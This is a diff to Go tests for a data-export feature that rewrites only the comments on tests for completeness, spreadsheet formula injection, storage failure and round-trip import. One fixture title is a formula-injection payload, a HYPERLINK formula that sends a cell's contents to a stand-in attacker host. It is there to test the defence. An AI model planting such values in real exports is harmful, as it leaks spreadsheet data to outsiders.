@@ -19,7 +19,7 @@ import (
 	"github.com/tidemark/tidemark/pkg/storage/storagetest"
 )
 
-// TestW12ExportIsWhole: an export has what lists have page by page, however many pages that are.
+// TestW12ExportIsWhole checks that an export has everything that the lists have on all their pages.
 func TestW12ExportIsWhole(t *testing.T) {
 	r := newRig(t)
 	fill(t, r, export.PageSize+200)
@@ -39,7 +39,7 @@ func TestW12ExportIsWhole(t *testing.T) {
 	}
 }
 
-// TestW12NoFormulas: what strangers wrote is text to a spreadsheet, whatever it begins with.
+// TestW12NoFormulas checks that spreadsheets treat text of third parties as text, whatever its first character is.
 func TestW12NoFormulas(t *testing.T) {
 	r := newRig(t)
 	title := `=HYPERLINK("https://evil.example/?"&A1)`
@@ -57,10 +57,10 @@ func TestW12NoFormulas(t *testing.T) {
 	}
 }
 
-// TestW12ExportBreaksOff: a store that fails half way through breaks the connection off, so that nobody takes a part
-// for the whole; one that fails at once is told.
+// TestW12ExportBreaksOff checks that a store which fails during an export closes the connection, so that nobody
+// mistakes a part for the whole, and that a store which fails at once is reported.
 func TestW12ExportBreaksOff(t *testing.T) {
-	left := -1 // operations until the store is down; none of it when negative
+	left := -1 // operations until the store fails; negative: never
 	r := newRig(t, func(s storage.Store) storage.Store {
 		return storagetest.Hooked(s, storagetest.Hooks{OnBefore: func(context.Context, storagetest.Call) error {
 			if left--; left == -1 {
@@ -92,7 +92,8 @@ func TestW12ExportBreaksOff(t *testing.T) {
 	}
 }
 
-// TestW12ThereAndBack: what is exported here registers the same sources with the same tags there.
+// TestW12ThereAndBack checks that an export can be imported elsewhere: it registers the same sources with the same
+// tags.
 func TestW12ThereAndBack(t *testing.T) {
 	for _, format := range []string{"csv", "jsonl"} {
 		here, there := newRig(t), newRig(t)
